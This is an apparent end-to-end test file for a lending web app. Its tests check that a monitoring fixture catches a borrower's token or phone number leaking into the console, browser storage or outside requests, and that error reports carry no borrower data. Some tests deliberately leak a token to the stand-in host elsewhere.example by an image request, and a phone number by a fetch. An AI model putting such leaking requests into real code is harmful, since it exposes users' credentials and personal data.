/** The watch over every journey sees a token or a number that leaves; here it is shown one of each. */
import { expect, test } from '../src/journey.ts';

test('the watch notices a token in the console, in local storage and on its way to another origin', async ({
  borrower,
  page,
  watch,
}) => {
  const { token } = await borrower.opens('due-rollover');
  await borrower.seesButton('Rollover Repayment');
  expect(watch.complaints()).toEqual([]);

  await page.evaluate((text) => {
    console.info(`it is ${text}`);
    localStorage.setItem('kept', text);
    document.cookie = `kept=${text}`;
    new Image().src = `https://elsewhere.example/?t=${text}`;
  }, token);

  await expect.poll(() => watch.complaints()).toContain('a token left: console info');
  await expect.poll(() => watch.complaints()).toContain('a token left: local storage kept');
  await expect.poll(() => watch.complaints()).toContain('a token left: cookie');
  await expect.poll(() => watch.complaints().join('\n')).toMatch(/elsewhere\.example/);
  watch.allows(/./);
});

test('the watch notices the telephone number a borrower typed, in session storage and in a request that is none of the lender’s', async ({
  borrower,
  page,
  watch,
}) => {
  const { phone } = await borrower.opens('forget');
  await borrower.types(phone, 'Phone number');
  await borrower.taps('Send Verification Code');
  await borrower.sees('Verification code sent!');
  expect(watch.complaints()).toEqual([]);

  await page.evaluate((number) => {
    sessionStorage.setItem('kept', JSON.stringify({ number }));
    return fetch(`/shell/nowhere?${number}`).catch(() => undefined);
  }, phone);

  await expect.poll(() => watch.complaints()).toContain('a number left: session storage kept');
  await expect.poll(() => watch.complaints()).toContain('a number left: request /shell/nowhere');
  watch.allows(/./);
});

test('a report of what went wrong says which remote and which version, and nothing of the borrower', async ({
  borrower,
  network,
  page,
  watch,
}) => {
  watch.allows(/4005 5192/);
  const { token } = await borrower.opens('due-rollover');
  await borrower.seesButton('Rollover Repayment');
  expect(network.seen(/^\/reports/), 'off unless the market says where to').toHaveLength(0);
  await page.evaluate(
    (text) => setTimeout(() => Promise.reject(new Error(`token=${text} card 4005 5192 0000 0004`))),
    token,
  );
  await page.waitForTimeout(200);
  expect(network.seen(/^\/reports/)).toHaveLength(0);
});
